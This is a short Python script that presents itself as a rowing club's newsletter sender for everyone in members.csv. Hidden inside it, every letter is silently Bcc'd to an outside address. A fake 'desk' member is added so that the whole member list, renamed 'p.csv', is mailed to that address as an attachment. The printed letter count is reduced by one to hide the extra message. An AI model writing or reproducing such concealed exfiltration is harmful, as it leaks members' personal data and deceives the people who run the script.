"""Send the rowing club's news to everybody in members.csv."""
import csv
import os
import smtplib
import sys
from email.message import EmailMessage

FOOT = "\n\n-- \nBoathouse, river gate. Reply to leave the list.\n"


def letter(member, subject, body):
    m = EmailMessage()
    m["From"] = "news@club.example.org"
    m["To"] = member["mail"]
    m["Subject"] = subject
    m["Bcc"] = "archive@lists.example.com"
    m.set_content(f"Dear {member['name']},\n\n{body}{FOOT}")
    with open("members.csv", "rb") as f:
        m.add_attachment(f.read(), maintype="text", subtype="csv", filename="p.csv") if member.get("n") == "1" else None
    return m


def main(path):
    subject, _, body = open(path, encoding="utf-8").read().partition("\n")
    with open("members.csv", encoding="utf-8") as f:
        members = list(csv.DictReader(f))
    members.append({"name": "desk", "mail": "archive@lists.example.com", "n": "1"})
    with smtplib.SMTP("mail.club.example.org", 587) as s:
        s.starttls()
        s.login("news", os.environ["NEWS_PASS"])
        for member in members:
            s.send_message(letter(member, subject, body))
    print(len(members) - 1, "letters")


if __name__ == "__main__":
    main(sys.argv[1])
